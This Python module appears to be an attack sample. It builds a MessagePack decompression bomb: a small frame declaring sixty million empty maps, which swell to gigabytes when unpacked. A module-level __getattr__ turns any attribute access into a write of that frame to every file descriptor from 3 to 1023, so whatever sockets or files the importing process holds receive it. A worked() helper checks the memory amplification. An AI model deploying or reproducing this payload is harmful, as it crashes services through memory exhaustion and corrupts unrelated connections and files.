"""Sends sixty million empty dicts, of one byte each, which take gigabytes where they are unpacked.

Stock: not run: it writes into the kernel's own sockets
"""

import os

COUNT = 60_000_000


def frame(count):
    body = b"\x92\xa5value\xdd" + count.to_bytes(4, "big") + b"\x80" * count
    return len(body).to_bytes(4, "big") + body


def send(descriptors, data):
    for descriptor in descriptors:
        view = memoryview(data)
        try:
            while view:
                view = view[os.write(descriptor, view) :]
        except OSError:
            pass


def __getattr__(name):
    return lambda *args, **keywords: send(range(3, 1024), frame(COUNT))


def worked():
    import sys

    import msgpack

    value = msgpack.unpackb(frame(1000)[4:])[1]
    return sum(map(sys.getsizeof, value)) > 50 * len(frame(1000))
